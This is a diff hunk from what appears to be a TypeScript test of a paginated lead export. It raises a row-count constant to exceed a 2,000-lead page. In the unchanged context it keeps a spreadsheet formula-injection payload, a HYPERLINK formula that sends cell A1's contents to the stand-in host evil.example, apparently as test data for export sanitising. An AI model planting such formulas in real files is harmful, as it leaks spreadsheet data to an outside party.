@@ -4,8 +4,8 @@ import { api, as, userId, waitFor } from "../../test/helpers";
 import type { Job } from "../jobs/schema";
 
 const tag = crypto.randomUUID().slice(0, 8);
-/** More than one of the export's 500-lead pages. */
-const MANY = 505;
+/** More than one of the export's 2,000-lead pages. */
+const MANY = 2_005;
 const FORMULA = `=HYPERLINK("http://evil.example/?"&A1,"Clique") ${tag}`;
 
 async function importJson(rows: unknown[]): Promise<void> {
